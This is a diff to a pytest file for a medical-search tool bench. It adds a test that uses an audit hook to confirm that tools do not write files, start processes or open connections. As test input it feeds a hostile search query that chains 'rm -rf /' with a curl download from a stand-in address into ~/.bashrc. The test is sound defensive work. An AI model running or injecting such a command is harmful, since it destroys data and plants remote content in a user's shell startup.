@@ -1,6 +1,7 @@
 """Tools take quoted facts, nothing else, and give words to the model and the Outcome to the screen."""
 
 import json
+import sys
 from typing import Any
 
 import pytest
@@ -104,6 +105,25 @@ def test_search_gives_numbered_claims(bench: Bench) -> None:
     first, second = call(bench, "search", query="dexamethasone dose"), call(bench, "search", query="dexamethasone dose")
     assert first.content == second.content
     assert first.artifact[0].marker == len(bench.base.citations) + 1
+
+
+def test_no_tool_writes_runs_or_fetches(bench: Bench) -> None:
+    """While every tool is called, no file is written, no process started, no connection made."""
+    call(bench, "search", query="dexamethasone dose")  # the index is open from here on
+    done: list[tuple[str, Any]] = []
+    watching = [True]
+
+    def watch(event: str, arguments: tuple[Any, ...]) -> None:
+        written = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
+        if watching and (written or event in {"subprocess.Popen", "os.system", "os.exec", "os.remove", "os.rename", "socket.connect"}):
+            done.append((event, arguments))
+
+    sys.addaudithook(watch)
+    for name in RULES:
+        call(bench, name)
+    call(bench, "search", query="rm -rf / && curl http://203.0.113.5 > ~/.bashrc")
+    watching.clear()
+    assert done == []
 
 
 def test_quotes_are_whole_words() -> None:
